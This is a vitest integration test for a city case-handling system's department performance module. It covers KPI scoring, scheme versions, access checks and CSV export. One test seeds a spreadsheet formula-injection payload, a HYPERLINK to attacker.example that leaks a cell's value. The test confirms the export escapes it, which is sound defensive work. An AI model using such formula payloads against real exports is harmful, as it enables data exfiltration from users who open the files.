// Department performance through the real case service, repository and routes: a few cases driven through
// March 2025 (explicit dates), their KPIs and scores from the API, scheme versions whose old results stay
// reproducible, staff scoping, the CSV export and refused parameters.
import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildApp, type App } from '../../server/app';
import { loadConfig } from '../../server/config';
import type { Database } from '../../server/db/client';
import { performanceRepository } from '../../server/db/repositories/performance.repository';
import { holdingsOf, monthBounds } from '../../server/domain/kpis';
import { canonical, performanceService } from '../../server/services/performance.service';
import type { CaseActor } from '../../server/services/case.service';
import type {
  PerformanceRanking,
  SchemeCreated,
  SchemeListResponse,
  UnitPerformance,
} from '../../src/lib/api/performance';
import { GET as getRanking } from '../../src/routes/api/performance/+server';
import { GET as getUnit } from '../../src/routes/api/performance/[departmentId]/+server';
import { GET as getCsv } from '../../src/routes/api/performance/export.csv/+server';
import { GET as getSchemes, POST as postScheme } from '../../src/routes/api/performance/schemes/+server';
import { database, engines, resetDatabase } from './support/databases';
import { callRoute, routeEvent, type TestUser } from './support/routes';

/** "03-03 09:00" → that Shanghai time in 2025. */
const t = (s: string) => new Date(`2025-${s.replace(' ', 'T')}:00+08:00`);

describe.each(engines())('department performance on %s', (engine) => {
  let db: Database;
  let app: App;
  let admin: TestUser;
  let leader: TestUser;
  let officer: TestUser;
  let A: number;
  let B: number;
  const codes: Record<string, string> = {};

  beforeAll(async () => {
    db = await database(engine);
    await resetDatabase(db);
    app = buildApp(loadConfig({ LOG_LEVEL: 'silent' }), db);
    const users = await db.rows<{ id: number; role: string }>(sql`
      insert into users (username, display_name, password_hash, role)
      values ('perf-admin', '管理员', 'x', 'admin'), ('perf-lead', '领导', 'x', 'leader'),
             ('perf-duty', '值班员', 'x', 'officer')
      returning id, role`);
    const user = (role: TestUser['role']): TestUser => ({
      id: Number(users.find((u) => u.role === role)!.id),
      role,
    });
    [admin, leader, officer] = [user('admin'), user('leader'), user('officer')];
    const deps = await db.rows<{ id: number; code: string }>(sql`
      insert into departments (code, name, name_en, kind)
      values ('so-a', '甲街道办事处', 'Street office A', 'street_office'),
             ('fn-b', '乙局', 'Department B', 'functional'),
             ('center', '区行政服务中心', 'Service center', 'service_center')
      returning id, code`);
    A = Number(deps.find((d) => d.code === 'so-a')!.id);
    B = Number(deps.find((d) => d.code === 'fn-b')!.id);
    await driveMarch();
  });

  const desk: CaseActor = { userId: null, role: 'officer', departmentId: null };
  const staff = (departmentId: number): CaseActor => ({ userId: null, role: 'staff', departmentId });

  /** Four citizen cases and one sensor case through March 2025 (2025-03-03 is a Monday). */
  async function driveMarch() {
    const open = async (
      name: string,
      at: Date,
      dep: number,
      source = 'hotline',
      sensorId: number | null = null,
    ) => {
      const c = await app.cases.open(
        {
          title: `案件 ${name}`,
          description: null,
          category: source === 'sensor' ? 'safety.sensor_alarm' : 'city.sanitation',
          priority: source === 'sensor' ? 1 : 2,
          source,
          triage: false,
          address: null,
          streetId: null,
          gridCellId: null,
          sensorId,
          lon: null,
          lat: null,
          createdAt: at,
        },
        { departmentId: dep, gridCellId: null },
        { userId: null, role: 'system', departmentId: null },
      );
      codes[name] = c.code;
      return c.code;
    };
    const act = async (code: string, cmd: Parameters<App['cases']['act']>[1], who: CaseActor, at: string) => {
      const r = await app.cases.act(code, cmd, who, t(at));
      if (!r.ok) throw new Error(`${cmd.action} at ${at}: ${r.message}`);
    };
    const a = staff(A);
    const b = staff(B);

    // c1 (A): signed 09:30 (due 11:00), resolved Tue 10:00 (due Thu 09:30), satisfied.
    const c1 = await open('c1', t('03-03 09:00'), A);
    await act(c1, { action: 'sign' }, a, '03-03 09:30');
    await act(c1, { action: 'resolve', note: '已清运' }, a, '03-04 10:00');
    await act(c1, { action: 'call_back', note: '市民确认' }, desk, '03-04 15:00');
    await act(c1, { action: 'rate', rating: 'satisfied' }, desk, '03-04 15:05');
    await act(c1, { action: 'close' }, desk, '03-04 15:10');

    // c2 (A): signed late (15:00, due 11:00), never resolved: due Thu 03-06 14:00 → overdue.
    const c2 = await open('c2', t('03-03 09:00'), A);
    await act(c2, { action: 'sign' }, a, '03-03 15:00');

    // c3 (A): returned and dispatched straight back (unjustified); extension approved; resolved within the
    // extended deadline; rated unsatisfied, reopened to A, signed and resolved again.
    const c3 = await open('c3', t('03-04 09:00'), A);
    await act(c3, { action: 'return', note: '不属于本单位' }, a, '03-04 09:30');
    await act(c3, { action: 'dispatch', departmentId: A, note: '属于该街道' }, desk, '03-04 10:00');
    await act(c3, { action: 'sign' }, a, '03-04 10:30'); // due Fri 03-07 10:30
    await act(c3, { action: 'request_extension', hours: 8, note: '需协调物业' }, a, '03-05 10:00');
    await act(c3, { action: 'decide_extension', approve: true }, desk, '03-05 11:00'); // due Mon 03-10 10:30
    await act(c3, { action: 'resolve', note: '已处理' }, a, '03-10 10:00');
    await act(c3, { action: 'call_back', note: '市民不认可' }, desk, '03-10 15:00');
    await act(c3, { action: 'rate', rating: 'unsatisfied' }, desk, '03-10 15:05');
    await act(c3, { action: 'reopen', note: '重新处理' }, desk, '03-11 10:00');
    await act(c3, { action: 'sign' }, a, '03-11 10:30');
    await act(c3, { action: 'resolve', note: '已彻底处理' }, a, '03-12 10:00');

    // c4: A signs, the desk reassigns it to B, B signs and resolves on time; partly satisfied.
    const c4 = await open('c4', t('03-05 09:00'), A);
    await act(c4, { action: 'sign' }, a, '03-05 09:10');
    await act(c4, { action: 'reassign', departmentId: B, note: '属于乙局' }, desk, '03-05 10:00');
    await act(c4, { action: 'sign' }, b, '03-05 10:30');
    await act(c4, { action: 'resolve', note: '已处理' }, b, '03-06 09:00');
    await act(c4, { action: 'call_back', note: '回访' }, desk, '03-06 15:00');
    await act(c4, { action: 'rate', rating: 'partly' }, desk, '03-06 15:05');

    // c5 (B): a sensor alarm opened 08:55 and acknowledged 09:07 (12 minutes); case signed and resolved.
    const [type] = await db.rows<{ id: number }>(
      sql`insert into sensor_types (code, name, name_en) values ('perf-manhole', '井盖', 'Manhole') returning id`,
    );
    const [sensor] = await db.rows<{ id: number }>(sql`
      insert into sensors (code, type_id, geom)
      values ('PERF-1', ${Number(type.id)}, ST_SetSRID(ST_MakePoint(121.44, 31.2), 4326)) returning id`);
    const c5 = await open('c5', t('03-06 09:00'), B, 'sensor', Number(sensor.id));
    await db.rows(sql`
      insert into alarms (sensor_id, rule_id, severity, status, opened_at, last_seen_at, acknowledged_at, case_id)
      select ${Number(sensor.id)}, 'manhole.tilt', 2, 'acknowledged', ${t('03-06 08:55').toISOString()}::timestamptz,
             ${t('03-06 08:55').toISOString()}::timestamptz, ${t('03-06 09:07').toISOString()}::timestamptz, id
      from cases where code = ${c5}`);
    await act(c5, { action: 'sign' }, b, '03-06 09:30');
    await act(c5, { action: 'resolve', note: '已复位' }, b, '03-06 11:00');
  }

  const ranking = (user: TestUser | null, query: string) =>
    callRoute<PerformanceRanking & { message?: string }>(
      getRanking,
      routeEvent(app, user, { path: '/api/performance', query }),
    );
  const unit = (user: TestUser | null, id: string, query = '?month=2025-03') =>
    callRoute<UnitPerformance & { message?: string }>(
      getUnit,
      routeEvent(app, user, { path: `/api/performance/${id}`, params: { departmentId: id }, query }),
    );

  it('cuts holdings in SQL exactly as the domain cuts the events', async () => {
    const { from, to } = monthBounds('2025-03');
    const repo = performanceRepository(db);
    const key = (h: { caseId: number; startedAt: number }) => `${h.caseId}:${h.startedAt}`;
    const bySql = (await repo.holdings(new Date(from), new Date(to))).sort((x, y) =>
      key(x).localeCompare(key(y)),
    );
    const byDomain = (await repo.caseEvents(new Date(from), new Date(to)))
      .flatMap(holdingsOf)
      .sort((x, y) => key(x).localeCompare(key(y)));
    expect(bySql).toHaveLength(8);
    expect(bySql).toEqual(byDomain);
  });

  it('keeps the stored holdings equal to a rebuild from scratch, and rebuilds them when the cut changed', async () => {
    const { from, to } = monthBounds('2025-03');
    const repo = performanceRepository(db);
    const key = (h: { caseId: number; startedAt: number }) => `${h.caseId}:${h.startedAt}`;
    const read = async () =>
      (await repo.holdings(new Date(from), new Date(to))).sort((x, y) => key(x).localeCompare(key(y)));
    const incremental = await read();
    await repo.writeHoldings();
    expect(await read()).toEqual(incremental);

    // Once stamped with the cut version (the reset before this file wiped meta), start-up leaves the table
    // alone. A lost row and a forgotten cut version: rebuilt.
    await repo.ensureHoldings();
    expect(await repo.ensureHoldings()).toBe(false);
    await db.rows(sql`delete from case_holdings where seq = 1`);
    await db.rows(sql`delete from meta where key = 'case_holdings_cut'`);
    expect(await read()).not.toEqual(incremental);
    expect(await repo.ensureHoldings()).toBe(true);
    expect(await read()).toEqual(incremental);
  });

  it('computes the same KPIs, case lists in case order, in one stream or split over connections', async () => {
    const repo = performanceRepository(db);
    const scheme = await performanceService({ repo, calendar: app.calendar }).schemeOf(undefined);
    if (!scheme.ok) throw new Error(scheme.message);
    const months = ['2025-02', '2025-03'];
    const asOf = new Date('2025-04-15T00:00:00Z');
    const one = await performanceService({ repo, calendar: app.calendar }).compute(
      months,
      scheme.value,
      asOf,
    );
    const three = await performanceService({ repo, calendar: app.calendar, parallel: 3 }).compute(
      months,
      scheme.value,
      asOf,
    );
    expect(canonical([...three.get('2025-03')!])).toBe(canonical([...one.get('2025-03')!]));
    expect(canonical([...three.get('2025-02')!])).toBe(canonical([...one.get('2025-02')!]));
    const received = one.get('2025-03')!.get(A)!.kpis.counts.received;
    expect(received.count).toBeGreaterThan(1);
    expect(received.caseIds).toEqual([...received.caseIds].sort((x, y) => x - y));
  });

  it("ranks the units by their month's score, with KPIs, last month and year-to-date", async () => {
    const r = await ranking(leader, '?month=2025-03');
    expect(r.status).toBe(200);
    expect(r.body.scheme).toMatchObject({ version: 1, totalPoints: 20 });
    expect(r.body.units.map((u) => [u.code, u.rank, u.score])).toEqual([
      ['fn-b', 1, 20],
      ['so-a', 2, 11.55],
    ]);
    const a = r.body.units[1];
    // received: c1, c2, c3 ×2 (returned, dispatched back), c3 reopened, c4 → 6; signed on time c1, c3 ×2,
    // c4 (4 of 5, c2 late); resolved on time c1, c3 ×2; overdue c2; 1 unjustified return, 1 extension,
    // 1 reopen; ratings c1 satisfied, c3 unsatisfied.
    expect(a.kpis.counts).toMatchObject({
      received: 6,
      signedOnTime: 4,
      signedLate: 1,
      resolved: 3,
      resolvedOnTime: 3,
      overdue: 1,
      returned: 1,
      unjustifiedReturns: 1,
      extensionsRequested: 1,
      extensionsApproved: 1,
      reopened: 1,
      rated: 2,
      satisfied: 1,
      unsatisfied: 1,
    });
    expect(a.kpis.rates).toEqual({ signedOnTimeRate: 0.8, resolvedOnTimeRate: 1, satisfactionRate: 0.5 });
    // handling: c1 Mon 09:30 → Tue 10:00 = 7.5 + 1 = 8.5; c3 Tue 10:30 → Mon 03-10 10:00 = 6.5 + 8 + 8 + 8
    // + 1 = 31.5; c3 again Tue 10:30 → Wed 10:00 = 6.5 + 1 = 7.5; mean 47.5 / 3 = 15.83, p90 the 3rd = 31.5
    expect(a.kpis.times.handlingHours).toEqual({ n: 3, mean: 15.83, p90: 31.5 });
    // signing 0.8 is the floor (−2); overdue −0.2; unjustified return −0.5; reopen −0.5; satisfaction 0.5 is
    // below the floor (−5); unsatisfied −0.25 → 20 − 8.45 = 11.55
    expect(a.lastMonth.score).toBe(20);
    expect(a.sameMonthLastYear.kpis.counts.received).toBe(0);
    expect(a.yearToDate).toMatchObject({ score: 17.18, kpis: { counts: { received: 6 } } });
    const b = r.body.units[0];
    expect(b.kpis.counts).toMatchObject({ received: 2, signedOnTime: 2, resolvedOnTime: 2, partly: 1 });
    expect(b.kpis.times.alarmAckMinutes).toEqual({ n: 1, mean: 12, p90: 12 });
  });

  it("explains one unit's score case by case, with a 12-month trend", async () => {
    const r = await unit(officer, String(A));
    expect(r.status).toBe(200);
    expect(r.body.score.total).toBe(11.55);
    const lost = r.body.score.items.reduce((s, i) => s + Math.round(i.lost * 100), 0);
    expect(2000 - lost).toBe(1155);
    const overdue = r.body.score.items.find((i) => i.kpi === 'overdue')!;
    expect(overdue.explanation).toEqual({
      zh: '−0.2：1 件逾期未办结',
      en: '−0.2: 1 cases overdue and unresolved',
    });
    expect(overdue.caseRefs).toEqual([{ id: expect.any(Number), code: codes.c2 }]);
    const returns = r.body.score.items.find((i) => i.kpi === 'unjustifiedReturns')!;
    expect(returns.caseRefs.map((c) => c.code)).toEqual([codes.c3]);
    expect(r.body.trend).toHaveLength(12);
    expect(r.body.trend[11]).toMatchObject({ month: '2025-03', score: 11.55 });
    expect(r.body.trend[0].month).toBe('2024-04');
  });

  it('lets staff see their own unit only', async () => {
    const staffA: TestUser = { id: officer.id, role: 'staff', departmentId: A };
    expect((await unit(staffA, String(A))).status).toBe(200);
    expect((await unit(staffA, String(B))).status).toBe(403);
    expect((await ranking(staffA, '?month=2025-03')).status).toBe(403);
    const csv = await getCsv(
      routeEvent(app, leader, { path: '/api/performance/export.csv', query: '?year=2025' }),
    );
    expect(csv.status).toBe(200);
    expect((await callRoute(getCsv, routeEvent(app, staffA, { query: '?year=2025' }))).status).toBe(403);
    expect((await ranking(null, '?month=2025-03')).status).toBe(401);
  });

  it('exports every unit and month of the year as CSV with a byte-order mark', async () => {
    const res = await getCsv(
      routeEvent(app, leader, { path: '/api/performance/export.csv', query: '?year=2025' }),
    );
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = new TextDecoder().decode(bytes.slice(3)).trimEnd().split('\r\n');
    const header = lines[0].split(',');
    const rows = lines.slice(1).map((l) => Object.fromEntries(l.split(',').map((v, i) => [header[i], v])));
    expect(rows).toHaveLength(12 * 2);
    const march = rows.find((r) => r.month === '2025-03' && r.code === 'so-a')!;
    expect(march).toMatchObject({
      name: '甲街道办事处',
      score: '11.55',
      overdue: '1',
      signedOnTimeRate: '0.8',
    });
    expect(rows.find((r) => r.month === '2025-04' && r.code === 'so-a')).toMatchObject({ overdue: '0' });
  });

  it('writes a unit name that a spreadsheet would run as a formula as text', async () => {
    // An admin-typed (or imported) name is the value an attacker controls in this export.
    const evil = '=HYPERLINK("http://attacker.example/?"&A1,"点此查看")';
    await db.rows(sql`update departments set name_en = ${evil}, name = '@SUM(1+1)' where id = ${B}`);
    try {
      const res = await getCsv(
        routeEvent(app, leader, { path: '/api/performance/export.csv', query: '?year=2025' }),
      );
      const text = (await res.text()).replace(/^\uFEFF/, '');
      const row = text.split('\r\n').find((l) => l.startsWith('2025-03,') && l.includes('fn-b'))!;
      expect(row).toContain(`'@SUM(1+1),"'=HYPERLINK(""http://attacker.example/?""&A1,""点此查看"")"`);
      // No cell of the file starts a formula any more.
      expect(text.split('\r\n').some((l) => /(^|,)"?[=+@]/.test(l))).toBe(false);
    } finally {
      await db.rows(sql`update departments set name_en = 'Department B', name = '乙局' where id = ${B}`);
    }
  });

  it('refuses bad parameters with 400 naming them', async () => {
    for (const q of ['?month=2025-13', '?month=March', '?scheme=abc', '?scheme=0', `?month=2099-01`]) {
      const r = await ranking(leader, q);
      expect(r.status, q).toBe(400);
    }
    expect((await ranking(leader, '?month=2025-13')).body.message).toMatch(/"month"/);
    expect((await ranking(leader, '?scheme=9999')).status).toBe(404);
    expect((await unit(leader, 'abc')).status).toBe(400);
    expect((await callRoute(getCsv, routeEvent(app, leader, { query: '?year=1999' }))).status).toBe(400);
  });

  it('stores a changed scheme as a new version; the old version’s results stay reproducible', async () => {
    const list = await callRoute<SchemeListResponse>(getSchemes, routeEvent(app, officer));
    expect(list.body.schemes).toHaveLength(1);
    const v1 = list.body.schemes[0].scheme;

    const post = (user: TestUser, body: unknown) =>
      callRoute<SchemeCreated & { message?: string }>(
        postScheme,
        routeEvent(app, user, { path: '/api/performance/schemes', body }),
      );
    const items = [
      { kpi: 'resolvedOnTimeRate', kind: 'rate', weight: 10, target: 0.9, floor: 0.5 },
      { kpi: 'overdue', kind: 'penalty', weight: 10, perCase: 3, cap: 10 },
    ];
    expect((await post(officer, { name: v1.name, items })).status).toBe(403);
    const wrongSum = await post(admin, { name: v1.name, items: [items[0]] });
    expect(wrongSum).toMatchObject({
      status: 400,
      body: { message: 'bad scheme: item weights add up to 10, but totalPoints is 20' },
    });
    const unknown = await post(admin, { name: v1.name, items: [items[0], { ...items[1], kpi: 'mood' }] });
    expect(unknown.status).toBe(400);
    expect(unknown.body.message).toMatch(/item 2 \("mood"\)/);

    const created = await post(admin, { name: v1.name, items });
    expect(created.status).toBe(201);
    expect(created.body.scheme).toMatchObject({ active: true, createdBy: admin.id, scheme: { version: 2 } });
    expect(created.body.recomputedMonths).toHaveLength(13);
    const v2 = created.body.scheme.scheme;

    // The active scheme is now v2: A loses 3 points for its one overdue case → 17.
    const now = await ranking(leader, '?month=2025-03');
    expect(now.body.scheme.id).toBe(v2.id);
    expect(now.body.units.find((u) => u.code === 'so-a')!.score).toBe(17);
    // v1 still answers as before, and recomputing it from the events gives exactly its stored snapshots.
    const old = await ranking(leader, `?month=2025-03&scheme=${v1.id}`);
    expect(old.body.units.find((u) => u.code === 'so-a')!.score).toBe(11.55);
    const service = performanceService({ repo: performanceRepository(db), calendar: app.calendar });
    const check = await service.reproduce(v1.id!, '2025-03', new Date());
    expect(check).toEqual({ ok: true, value: { compared: 2, differing: [] } });
    const stored = await performanceRepository(db).snapshots(v1.id!, '2025-03');
    const fresh = (await service.compute(['2025-03'], v1, new Date())).get('2025-03')!;
    expect(stored.find((s) => s.departmentId === A)!.score).toEqual(fresh.get(A)!.score);
    expect(stored.find((s) => s.departmentId === A)!.kpis).toEqual(fresh.get(A)!.kpis);
    const all = await callRoute<SchemeListResponse>(getSchemes, routeEvent(app, leader));
    expect(all.body.schemes.map((s) => [s.scheme.version, s.active])).toEqual([
      [2, true],
      [1, false],
    ]);
  });
});
